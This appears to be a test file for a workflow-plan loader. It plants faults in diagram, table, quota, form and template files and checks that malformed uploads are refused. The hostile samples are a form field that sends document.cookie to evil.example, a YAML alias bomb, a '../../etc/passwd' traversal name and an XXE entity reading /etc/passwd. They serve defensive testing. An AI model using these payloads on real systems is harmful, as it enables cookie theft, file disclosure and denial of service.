import { readFileSync } from 'node:fs';
import path from 'node:path';
import { PlanLoader } from '../../src/seasons/index.js';
import type { Fault } from '../../src/shared/fault.js';
import { readPlanFolder } from '../../src/seasons/package-folder.js';
import { RehearsedSeason, type Voice } from '../support/rehearsed-season.js';
import { edits, replacing, stagePlan, type StagedPlan } from '../support/staged-plan.js';

/** Five slips in five kinds of file; each says where the author will look for it. */
const slips = edits(
  replacing(/technician-review\.bpmn$/, 'type="check-eligibility"', 'type="check-eligiblity"'),
  replacing(/technician-eligibility\.dmn$/, '[16..60)', '[16..60'),
  replacing(/seasons.wuxi-2024\.yaml$/, 'totals: { studio: 33,', 'totals: { studio: 34,'),
  replacing(
    /expert-score\.form\.json$/,
    '"type": "number",',
    '"type": "number",\n      "calculateValue": "value = fetch(\'https://evil.example/?c=\' + document.cookie)",',
  ),
  replacing(
    /certificate\.typ$/,
    '#let set-up = settings-in("certificate.settings.json")',
    '#let set-up = settings-in("certificate.settings.json")\n#let broken = nothingOfTheKind(1',
  ),
);

interface Expected {
  readonly file: RegExp;
  readonly code: RegExp;
  readonly where: Partial<Pick<Fault, 'element'>> & { readonly at?: string };
}
const EXPECTED: readonly Expected[] = [
  {
    file: /technician-review\.bpmn$/,
    code: /SERVICE|TASK_TYPE|UNKNOWN/,
    where: { element: expect.any(String) },
  },
  { file: /technician-eligibility\.dmn$/, code: /DMN_CELL/, where: { at: 'T1-row-1-in-3' } },
  {
    file: /(wuxi-2024|plan)\.yaml$/,
    code: /QUOTA/,
    where: { element: 'quotas.totals.studio', at: 'totals:' },
  },
  { file: /expert-score\.form\.json$/, code: /FORM_/, where: { element: expect.stringContaining('score') } },
  { file: /certificate\.typ$/, code: /TEMPLATE_ERROR/, where: { at: 'nothingOfTheKind' } },
];

let season: RehearsedSeason;
let plan: StagedPlan;
let administrator: Voice;

beforeAll(async () => {
  season = await RehearsedSeason.open();
  administrator = await season.as('administrator');
  plan = stagePlan(slips);
});
afterAll(async () => {
  plan.discard();
  await season.close();
});

function expectAll(faults: readonly Fault[], textOf: (file: string) => string): void {
  for (const { file, code, where } of EXPECTED) {
    const fault = faults.find((one) => file.test(one.file) && code.test(one.code));
    const told = faults
      .map((one) => `${one.code} ${one.file}:${one.line ?? ''} ${one.element ?? ''}`)
      .join('\n');
    if (!fault) throw new Error(`Nobody told of ${String(file)}:\n${told}`);
    expect(fault.severity).toBe('error');
    expect(fault.message).toMatch(/[一-鿿]/u);
    expect(fault.cure).toMatch(/[一-鿿].*。$/u);
    if (where.element !== undefined) expect(fault.element).toEqual(where.element);
    if (where.at !== undefined) {
      const lines = textOf(fault.file).split('\n');
      expect(lines[(fault.line ?? 0) - 1]).toContain(where.at);
    }
  }
}

describe('a plan with slips in a diagram, a table, the quotas, a form and a template', () => {
  it('is told all of them in one load, each with its file and line or element', async () => {
    const { version, faults } = await season.test.app.get(PlanLoader).loadFolder(plan.planFile);
    expect(version).toBeNull();
    const folder = path.dirname(path.dirname(plan.planFile));
    const absolute = (file: string): string =>
      path.isAbsolute(file) ? file : path.resolve(path.dirname(plan.planFile), file);
    expectAll(faults, (file) => {
      for (const place of [absolute(file), path.join(folder, file)]) {
        try {
          return readFileSync(place, 'utf8');
        } catch {
          // The other one.
        }
      }
      throw new Error(`No file ${file}`);
    });
  });

  it('is told the same when it is handed in over HTTP, and nothing is kept of it', async () => {
    const { folder } = await readPlanFolder(plan.planFile);
    const files = folder?.files.files ?? {};
    const before = await administrator.get('/plans');
    const reply = await administrator.post<{ versionId: string | null; faults: Fault[] }>('/plans', {
      files,
    });
    expect([reply.status, reply.body.versionId]).toEqual([200, null]);
    expectAll(reply.body.faults, (file) => files[file] ?? '');
    expect((await administrator.get('/plans')).body).toEqual(before.body);
  });
});

describe('a package that is none', () => {
  it.each([
    ['nothing at all', {}],
    ['no files', { files: {} }],
    ['files of another shape', { files: { 'plan.yaml': ['a'] } }],
    ['a plan that is no YAML', { files: { 'plan.yaml': '{{{' } }],
    ['a plan of aliases without end', { files: { 'plan.yaml': bomb() } }],
    ['a plan that contains itself', { files: { 'plan.yaml': 'a: &a [*a]' } }],
    ['a name that climbs out', { files: { '../../etc/passwd': 'x', 'plan.yaml': 'a: 1' } }],
    [
      'a diagram with an entity',
      {
        files: {
          'plan.yaml': 'a: 1',
          'diagrams/a.bpmn': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        },
      },
    ],
  ])('(%s) is refused in words', async (_name, body) => {
    const reply = await administrator.post<{
      versionId?: null;
      faults?: Fault[];
      code?: string;
      detail?: string;
    }>('/plans', body);
    expect([200, 422]).toContain(reply.status);
    if (reply.status === 200) {
      expect(reply.body.versionId).toBeNull();
      expect(reply.body.faults?.[0]?.message).toMatch(/[一-鿿]/u);
    } else
      expect(reply.body).toMatchObject({ code: 'INPUT_INVALID', detail: expect.stringMatching(/[一-鿿]/u) });
    expect(reply.text).not.toContain('root:');
  });
});

/** Each line stands for nine of the one before. */
function bomb(): string {
  const nine = (name: string): string => `[${Array(9).fill(`*${name}`).join(',')}]`;
  const names = 'abcdefghi'.split('');
  const lines = names.slice(1).map((name, index) => `${name}: &${name} ${nine(names[index] ?? 'a')}`);
  return [`a: &a ["${Array(9).fill('x').join('","')}"]`, ...lines].join('\n');
}
